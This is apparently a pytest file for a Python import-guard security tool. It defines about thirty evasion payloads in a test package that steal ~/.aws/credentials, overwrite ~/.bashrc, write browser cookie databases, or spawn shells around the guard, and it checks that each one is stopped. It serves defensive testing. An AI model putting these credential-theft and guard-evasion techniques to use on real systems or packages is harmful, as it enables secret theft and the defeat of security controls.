"""Ways around the guard that need no attack on it: each reaches its target unguarded, and is stopped under `recommended`."""

from dataclasses import dataclass

import pytest
from support import envs, guarded, wheels, worlds

# What every payload finds in its module. Nothing is read from a home that is no stage.
HEAD = """
import os, sys
HOME, TMP = os.path.expanduser("~"), os.environ["TMPDIR"]
AWS, LOOT = HOME + "/.aws/credentials", TMP + "/loot"
PORT = int(os.environ["SINK"].rpartition(":")[2])
assert os.path.exists(HOME + "/.canary-home")
COPY = "import shutil; shutil.copyfile(%r, %r)" % (AWS, LOOT)

def steal(path=AWS):
    with open(path) as secret, open(LOOT, "w") as loot:
        loot.write(secret.read())

def script(path, text="cp ~/.aws/credentials $TMPDIR/loot"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("#!/bin/sh\\n" + text + "\\n")
    os.chmod(path, 0o755)

def call(host="127.0.0.1", port=PORT, kind=tuple):
    import socket
    with socket.socket() as connection:
        connection.connect(kind((host, port)))
        connection.sendall(b"GET /home HTTP/1.0\\r\\n\\r\\n")
        connection.recv(64)
"""
FORK_EXEC = """
def fork_exec(module, argv, candidates, folder=None):
    r, w = os.pipe()
    more = (-1, None, None, None, -1, None, False)
    module.fork_exec(argv, candidates, True, (w,), folder, None, -1, -1, -1, -1, -1, -1, r, w, False, False, *more)
    os.wait()
"""
CALLED = "import acme_evader.{0}\nacme_evader.{0}.run()\n"
STOLEN, CALLED_HOME, RAN = "kept:aws", "GET:/home", "wrote:tmp/ran"


@dataclass(frozen=True, slots=True)
class Evasion:
    """What a module does when it is imported (or `run()` in it is called), and the fact that shows that it came through."""

    source: str
    shows: str = STOLEN
    app: str = "import acme_evader.{0}\n"


EVASIONS = {
    "address_of_a_tuples_subclass": Evasion("call(kind=type('Address', (tuple,), {}))", CALLED_HOME),
    "port_of_an_ints_subclass": Evasion("call(port=type('Port', (int,), {})(PORT))", CALLED_HOME),
    "port_with_an_index": Evasion("call(port=type('Port', (), {'__index__': lambda self: PORT})())", CALLED_HOME),
    "host_in_a_bytearray": Evasion("call(host=bytearray(b'127.0.0.1'))", CALLED_HOME),
    "module_without_a_spec": Evasion("__spec__ = None\ncall()", CALLED_HOME),
    "module_that_says_it_is_initialized": Evasion("__spec__._initializing = False\ncall()", CALLED_HOME),
    "module_that_calls_itself_main": Evasion("__name__ = '__main__'\nsteal()"),
    "file_that_is_run_as_main": Evasion(
        "import runpy\nopen(TMP + '/second.py', 'w').write('import acme_evader as e, shutil, os; '"
        " + f'shutil.copyfile({AWS!r}, {LOOT!r})')\nrunpy.run_path(TMP + '/second.py', run_name='__main__')"
    ),
    "program_that_main_is_said_to_be": Evasion(
        "import __main__\n__main__.__file__ = __file__\n\ndef run():\n    steal()", app=CALLED
    ),
    "program_that_an_event_is_forged_for": Evasion(
        "sys.audit('cpython.run_file', __file__)\n\ndef run():\n    steal()", app=CALLED
    ),
    "spec_whose_origin_is_code": Evasion(
        """
class Spec:
    name, loader, submodule_search_locations = "no_such_module", None, None
    origin = has_location = property(lambda self: steal())

class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        return Spec() if name == "no_such_module" else None

sys.meta_path.append(Finder)
try:
    import no_such_module
except (OSError, ImportError, AttributeError):
    pass
"""
    ),
    "tracer_that_sees_the_guard_at_work": Evasion(
        """
def trace(frame, event, argument):
    if not os.path.exists(LOOT):
        try:
            steal()
        except OSError:
            pass
    return trace

sys.settrace(trace)
sorted([2, 1], key=lambda number: -number)
try:
    os.system("true")
except OSError:
    pass
sys.settrace(None)
"""
    ),
    "signals_that_meet_the_guard_at_work": Evasion(
        """
import signal
def handle(number, frame):
    try:
        steal()
    except OSError:
        pass

signal.signal(signal.SIGALRM, handle)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
for _ in range(200):
    try:
        open(HOME + "/.ssh/id_ed25519").close()
    except OSError:
        pass
signal.setitimer(signal.ITIMER_REAL, 0)
"""
    ),
    "second_posixsubprocess": Evasion(
        FORK_EXEC
        + """
import importlib.util, importlib.machinery, _imp
spec = importlib.util.find_spec("_posixsubprocess")
if spec.origin == "built-in":
    module = _imp.create_builtin(importlib.machinery.ModuleSpec("_posixsubprocess", None))
else:
    module = importlib.util.module_from_spec(
        importlib.util.spec_from_file_location("acme_evader._posixsubprocess", spec.origin))
fork_exec(module, [b"sh", b"-c", b"cp ~/.aws/credentials $TMPDIR/loot"], (b"/bin/sh",))
"""
    ),
    "second_thread_module": Evasion(
        "import _imp, importlib.machinery, shutil, time\n"
        "threads = _imp.create_builtin(importlib.machinery.ModuleSpec('_thread', None))\n"
        "threads.start_new_thread(shutil.copyfile, (AWS, LOOT))\n"
        "size, end = os.path.getsize(AWS), time.monotonic() + 2\n"
        "while time.monotonic() < end and not (os.path.exists(LOOT) and os.path.getsize(LOOT) == size):\n"
        "    os.sched_yield()\n"
    ),
    "function_without_a_module": Evasion(
        "copy = f'import shutil; shutil.copyfile({AWS!r}, {LOOT!r})'\n"
        "space = {}\nexec(f'def run():\\n    exec({copy!r})', space)\nrun = space['run']\n",
        app=CALLED,
    ),
    "child_of_a_second_posix": Evasion(
        "import _imp, importlib.machinery\n"
        "posix = _imp.create_builtin(importlib.machinery.ModuleSpec('posix', None))\n\ndef run():\n"
        "    code = f'import shutil; shutil.copyfile({AWS!r}, {LOOT!r})'\n"
        "    posix.posix_spawn(sys.executable, [sys.executable, '-c', code], {})\n    os.wait()\n",
        app=CALLED,
    ),
    "allowed_program_in_another_folder": Evasion(
        "import subprocess\nscript(TMP + '/usr/bin/uname')\nos.chdir('/')\n"
        "subprocess.run(['usr/bin/uname', '-p'], cwd=TMP)"
    ),
    "allowed_program_whose_path_is_code": Evasion(
        """
class Path:
    asked = 0
    def __fspath__(self):
        # Read more than once, it does its deed while the start that was asked for is under way.
        self.asked += 1
        if self.asked > 1 or "importguard" not in sys.modules:
            os.system("cp ~/.aws/credentials $TMPDIR/loot")
        return "/usr/bin/uname"

os.posix_spawn(Path(), ["uname", "-p"], os.environ)
os.wait()
"""
    ),
    "file_that_an_allowed_program_writes_to": Evasion(
        "os.posix_spawn('/usr/bin/uname', ['uname', '-p'], os.environ,"
        " file_actions=[(os.POSIX_SPAWN_OPEN, 1, HOME + '/.bashrc', os.O_WRONLY | os.O_TRUNC, 0o600)])\nos.wait()",
        "wrote:home/.bashrc",
    ),
    "written_program_in_a_moved_folder": Evasion(
        "def run():\n    import subprocess\n    script(TMP + '/a/tool', 'echo ran > $TMPDIR/ran')\n"
        "    os.rename(TMP + '/a', TMP + '/b')\n    subprocess.run([TMP + '/b/tool'])",
        RAN,
        CALLED,
    ),
    "written_program_on_the_path": Evasion(
        "def run():\n    script(TMP + '/a/tool', 'echo ran > $TMPDIR/ran')\n    os.environ['PATH'] = TMP + '/a'\n"
        "    os.posix_spawnp('tool', ['tool'], os.environ)\n    os.wait()",
        RAN,
        CALLED,
    ),
    "written_program_without_a_folder": Evasion(
        "def run():\n    script(TMP + '/a/tool', 'echo ran > $TMPDIR/ran')\n    os.chdir(TMP + '/a')\n"
        "    os.posix_spawn('tool', ['tool'], os.environ)\n    os.wait()",
        RAN,
        CALLED,
    ),
    "written_program_after_a_folder": Evasion(
        FORK_EXEC + "\ndef run():\n    import _posixsubprocess\n    script(TMP + '/a/tool', 'echo ran > $TMPDIR/ran')\n"
        "    fork_exec(_posixsubprocess, [b'tool'], (b'/usr/lib', os.fsencode(TMP + '/a/tool')))",
        RAN,
        CALLED,
    ),
    "child_with_encodings_of_its_own": Evasion(
        """
def run():
    import subprocess
    os.makedirs(TMP + "/path/encodings")
    with open(TMP + "/path/encodings/__init__.py", "w") as file:
        file.write(f"import posix\\nloot = posix.open({LOOT!r}, 65)\\nposix.write(loot, posix.read(posix.open({AWS!r}, 0), 4096))\\n")
    subprocess.run([sys.executable, "-c", ""], env={**os.environ, "PYTHONPATH": TMP + "/path"}, capture_output=True)
""",
        app=CALLED,
    ),
    "database_whose_name_is_quoted": Evasion(
        "import sqlite3\nos.makedirs(HOME + '/.mozilla/x')\n"
        "with sqlite3.connect('file:' + HOME + '/.mozilla/x/cookies.sqlit%65', uri=True) as base:\n"
        "    base.execute('create table t (x)')",
        "wrote:home/.mozilla/x/cookies.sqlite",
    ),
    "database_on_this_host": Evasion(
        "import sqlite3\nos.makedirs(HOME + '/.mozilla/x')\n"
        "with sqlite3.connect('file://localhost' + HOME + '/.mozilla/x/cookies.sqlite', uri=True) as base:\n"
        "    base.execute('create table t (x)')",
        "wrote:home/.mozilla/x/cookies.sqlite",
    ),
    "file_of_the_project_that_is_changed": Evasion(
        """
def run():
    import extra
    with open("extra.py", "w") as file:
        file.write(f"import shutil; shutil.copyfile({AWS!r}, {LOOT!r})")
    del sys.modules["extra"]
    import extra
""",
        app="import os\nopen('extra.py', 'w').close()\nos.utime('extra.py', (0, 0))\n" + CALLED,
    ),
    "secret_under_another_name": Evasion("os.rename(AWS, TMP + '/plain')\nsteal(TMP + '/plain')"),
    "isolated_child_of_a_shell": Evasion(
        "import subprocess\n\ndef run():\n"
        "    subprocess.run(['/bin/sh', '-c', '\"$0\" -I -c \"$1\"', sys.executable, COPY])",
        app=CALLED,
    ),
    "interpreter_under_another_name": Evasion(
        "import subprocess\n\ndef run():\n    subprocess.run(['cp', sys.executable, TMP + '/tool'])\n"
        "    subprocess.run([TMP + '/tool', '-I', '-c', COPY], env={**os.environ, 'PYTHONHOME': sys.base_prefix})",
        app=CALLED,
    ),
    "exit_handler_of_a_called_package": Evasion(
        "import atexit, shutil\n\ndef run():\n    atexit.register(shutil.copyfile, AWS, LOOT)", app=CALLED
    ),
    "exit_handler_when_no_import_seems_under_way": Evasion(
        "import _frozen_importlib, atexit, shutil\n_frozen_importlib._module_locks.clear()\n"
        "atexit.register(shutil.copyfile, AWS, LOOT)"
    ),
}


@pytest.fixture(scope="session")
def evader(tmp_path_factory, empty_environment):
    """An environment with one distribution that has a module for each evasion."""
    folder = tmp_path_factory.mktemp("evader")
    environment = envs.copy(empty_environment, folder / "env")
    modules = {f"acme_evader/{name}.py": HEAD + evasion.source + "\n" for name, evasion in EVASIONS.items()}
    envs.install(
        environment, wheels.Wheel("acme-evader", "1.0", {"acme_evader/__init__.py": "", **modules}), folder=folder
    )
    return environment


@pytest.fixture
def perform(tmp_path, evader):
    """A function that runs an evasion in a world of its own and returns what came of it."""

    def perform(name, mode):
        with worlds.furnished(tmp_path, evader) as world:
            (world.project / "app.py").write_text(EVASIONS[name].app.format(name))
            outcome = guarded.run(world, [evader.python, "app.py"], mode=mode)
            return outcome, world.evidence()

    return perform


@pytest.mark.parametrize("name", EVASIONS)
def test_evasion_reaches_its_target_unguarded(name, perform):
    """The control: without the guard it does what it is there for."""
    outcome, evidence = perform(name, guarded.UNGUARDED)

    assert EVASIONS[name].shows in evidence, outcome.story()


@pytest.mark.parametrize("name", EVASIONS)
def test_evasion_is_stopped(name, perform):
    """Under `recommended` it doesn't."""
    outcome, evidence = perform(name, guarded.RECOMMENDED)

    assert any(record["event"] == "armed" for record in outcome.records), outcome.story()
    assert EVASIONS[name].shows not in evidence, outcome.story()
